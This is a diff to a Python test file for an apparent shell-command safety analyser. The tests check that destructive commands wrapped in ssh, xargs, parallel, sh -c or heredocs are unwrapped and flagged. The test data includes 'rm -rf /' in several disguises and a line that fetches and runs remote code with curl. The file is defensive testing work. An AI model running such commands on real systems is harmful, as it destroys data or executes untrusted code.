@@ -85,7 +85,7 @@ def readings(command: str) -> list[str]:
         ("ssh host git clean -f", "git clean -f"),
         ("ssh -p 22 -i key user@host 'rm -rf /'", "rm -rf /"),
         ("parallel ::: 'rm -rf /'", "rm -rf /"),
-        ("echo / | xargs -J {} rm -rf {}", "rm -rf {} <stdin>"),
+        ("echo / | xargs -J {} rm -rf {}", "rm -rf {}"),
         ("watch -n 1 rm x", "rm x"),
         ("sh -c \"bash -c 'rm -rf /'\"", "rm -rf /"),
         ("sh <<EOF\nrm -rf /\nEOF", "rm -rf /"),
@@ -95,7 +95,7 @@ def readings(command: str) -> list[str]:
         ("bash -s <<EOF\nrm x\nEOF", "rm x"),
         # commands run for others
         ("echo / | xargs rm -rf", "rm -rf <stdin>"),
-        ("xargs -0 -n 1 -I {} rm -rf {}", "rm -rf {} <stdin>"),
+        ("xargs -0 -n 1 -I {} rm -rf {}", "rm -rf {}"),
         ("xargs -- rm x", "rm x <stdin>"),
         ("parallel rm -rf ::: /", "rm -rf /"),
         ("parallel rm -rf {} ::: a /", "rm -rf /"),
@@ -149,6 +149,9 @@ def test_find_delete_is_an_action_only_where_one_stands() -> None:
         'sh -c "$SCRIPT"',
         'bash -c "$(curl -s https://x)"',
         "watch $CMD",
+        "echo 'rm -rf /' | xargs -I{} bash -c {}",  # the script is what xargs reads
+        "xargs -i sh -c '{}'",
+        "parallel bash -c {}",
         'python3 -c "$CODE"',
         'sh -c \'sh -c "sh -c \\"sh -c rm\\""\'',  # deeper than MAX_SCRIPT_DEPTH
         "sh -c 'echo \"unterminated'",
